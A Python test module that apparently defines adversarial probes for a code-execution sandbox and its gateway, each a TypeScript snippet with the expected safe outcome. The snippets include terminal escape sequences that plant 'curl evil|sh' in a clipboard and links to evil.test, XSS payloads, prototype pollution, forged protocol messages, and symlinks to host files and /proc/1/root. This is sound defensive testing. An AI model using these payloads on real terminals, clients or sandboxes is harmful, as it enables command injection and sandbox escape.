"""Harm whoever reads a result: the gateway that collects it, the terminal that shows it, the client that renders it."""

from __future__ import annotations

from dataclasses import replace

from ..probe import Probe
from ..resources import BRIEF
from ..results import artifact


def mute(identity: str, title: str, code: str, must: str) -> Probe:
    """Afterwards the runtime may not be able to say anything: then its time must run out."""
    return replace(artifact(identity, title, code, must), limits=BRIEF)


PROBES = (
    artifact(
        "ts-out-01",
        "print what a terminal obeys: clipboard, title, links, cursor",
        r"""
console.log(
  "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x1b]8;;http://evil.test\x07click\x1b]8;;\x07\x1b[2J\x9b31m",
);
console.log("%cstyled", "color: red; background: url(http://evil.test/)");
Deno.stdout.writeSync(raw("\x1bP+q544e\x1b\\\x00\x08\x7f\r"));
process.title = "\x1b]0;owned\x07";
""",
        "no control characters but line ends and tabs",
    ),
    artifact(
        "ts-out-02",
        "return what has a text of hundreds of megabytes",
        """
class Huge {
  toString() {
    return "R".repeat(60 << 20);
  }
  toJSON() {
    return "J".repeat(60 << 20);
  }
}
return [new Huge(), new Huge(), () => "F".repeat(100)];
""",
        "made and cut inside the sandbox, and cut again in the gateway",
    ),
    artifact(
        "ts-out-03",
        "return what has no end: cycles, depth, generators, proxies",
        """
const loop: any = {};
loop.loop = loop;
let deep: any = [];
for (let at = 0; at < 5_000; at++) deep = [deep];
const endless = new Proxy({}, {
  get: (_, name) => name === Symbol.toPrimitive ? () => "x" : endless,
  ownKeys: () => ["a", "b"],
  getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }),
});
return [
  loop,
  deep,
  endless,
  (function* () {
    while (true) yield 1;
  })(),
];
""",
        "cut where it becomes too deep",
    ),
    artifact(
        "ts-out-04",
        "return objects that lie about what they are",
        """
class Text extends (String as any) {
  toString(): any {
    return { evil: 1 };
  }
  valueOf(): any {
    return Symbol("x");
  }
}
const lying = {
  toJSON: () => {
    throw new Error("no");
  },
  get x() {
    throw new Error("no");
  },
};
return [
  new (Text as any)("t"),
  Object.create(null),
  NaN,
  -Infinity,
  10n ** 5000n,
  Symbol("s"),
  new Date(NaN),
  new Uint8Array(9),
  { __proto__: { a: 1 } },
  lying,
];
""",
        "what leaves is JSON, made by the guest",
    ),
    artifact(
        "ts-out-05",
        "throw an error that attacks whoever shows it",
        r"""
class Evil extends (Error as any) {
  get name(): any {
    return { toString: () => "\x1b[2J" };
  }
  get message(): any {
    return "\x1b[2J" + "M".repeat(20 << 20);
  }
  get stack(): any {
    throw new Error("stack");
  }
  get cause(): any {
    return this;
  }
}
throw new Evil();
""",
        "told in few plain words",
    ),
    mute(
        "ts-out-06",
        "throw what is no error",
        r"""
throw new Proxy({}, {
  get() {
    throw new Error("no");
  },
  getPrototypeOf() {
    throw new Error("no");
  },
  ownKeys() {
    throw new Error("no");
  },
});
""",
        "told in few plain words",
    ),
    artifact(
        "ts-out-07",
        "put half characters wherever text goes",
        r"""
console.log("half \ud800 printed");
if (Math.random() < 0.5) {
  const odd = new Error("\ud800".repeat(1000));
  odd.name = "odd\udfff";
  throw odd;
}
return { "\udfff": ["\ud800", { "x\ud83d": "\udc00" }] };
""",
        "every word can be sent and recorded",
    ),
    artifact(
        "ts-out-08",
        "print bytes that are no text",
        r"""
Deno.stdout.writeSync(Uint8Array.from({ length: 5120 }, (_, at) => at % 256));
Deno.stderr.writeSync(raw("\xff\xfe\xed\xa0\x80\xf4\x90\x80\x80\xc0\x80"));
""",
        "shown with replacements",
    ),
    artifact(
        "ts-out-09",
        "return more than may leave the sandbox",
        "return 'x'.repeat(50 << 20);",
        "refused inside with a sentence, and never sent",
    ),
    artifact(
        "ts-out-10",
        "forge a last word with parts of megabytes and of wrong kinds",
        r"""
const big = "\x1b[31m" + "x".repeat(200_000);
await send({
  type: "done",
  status: "error",
  notes: [big, 5, null, { a: big }],
  limit: big,
  memory_kb: -1,
  fault: { type: big, message: big, traceback: big },
});
await sleep(30_000);
""",
        "each part is taken only in the form it must have, and cut",
    ),
    artifact(
        "ts-out-11",
        "forge a value with half characters that only bytes can write",
        r"""
await send(
  raw('{"type":"done","status":"ok","has_value":true,"value":"\xed\xa0\x80","notes":["\xed\xbf\xbf"]}'),
);
await sleep(30_000);
""",
        "refused, or made whole",
    ),
    mute(
        "ts-out-12",
        "break what the runtime reports with, then end",
        r"""
(Object.prototype as any).toJSON = () => "\x1b[2J".repeat(1e5);
(Error as any).prepareStackTrace = () => "\x1b[2J".repeat(1e5);
Array.prototype.push = Array.prototype.map = () => {
  throw new Error("no");
};
String.prototype.slice = String.prototype.split = () => "\x1b[2J" as any;
globalThis.String = (() => "\x1b[2J") as any;
throw new Error("broken");
""",
        "told in few plain words, or as the end of the run",
    ),
    artifact(
        "ts-out-13",
        "show what a client would obey: pages, scripts, pictures that are none",
        r"""
for (
  const [data, type] of [
    ["<script>alert(1)</script>", "text/html"],
    ["<svg onload=alert(1)>", "image/svg+xml"],
    ["x", "image/\x1b[2J"],
    ["y".repeat(9 << 20), "image/png"],
  ]
) {
  try {
    await (show as any)(encoder.encode(data), type);
  } catch (error: any) {
    console.log(error.message);
  }
}
""",
        "only pictures that can be shown are passed on",
    ),
    artifact(
        "ts-out-14",
        "leave links to files of the host, odd names and deep folders for the one who collects",
        r"""
for (
  const [to, name] of [[OUTSIDE_FILE, "report.txt"], [OUTSIDE_FOLDER, "folder"], ["/proc/1/root", "root"]]
) {
  try {
    fs.symlinkSync(to, name);
  } catch (error: any) {
    print(error.message);
  }
}
fs.writeFileSync(Buffer.from("bad\nname\x1b[31m.txt"), "x");
try {
  for (let depth = 0; depth < 1_500; depth++) {
    Deno.mkdirSync("deep");
    Deno.chdir("deep");
  }
} catch (error: any) {
  print(error.message);
}
""",
        "whoever comes next finds its workspace, and links that lead nowhere",
        """
for (const name of ["report.txt", "folder/secret.txt", `root${OUTSIDE_FILE}`]) {
  await tried(name, () =>
    Deno.readTextFileSync(name));
}
""",
    ),
    artifact(
        "ts-out-15",
        "fail beside the program with what attacks whoever tells of it",
        r"""
Promise.reject({
  toString() {
    throw new Error("no");
  },
});
Promise.reject(
  new Proxy(new Error("x"), {
    get() {
      throw new Error("no");
    },
  }),
);
Promise.reject("\x1b[2J".repeat(1 << 20));
for (let more = 0; more < 5_000; more++) Promise.reject(new Error("y".repeat(1_000)));
await new Promise((resolve) => setTimeout(resolve, 10));
return 1;
""",
        "a few notes of few plain words",
    ),
)
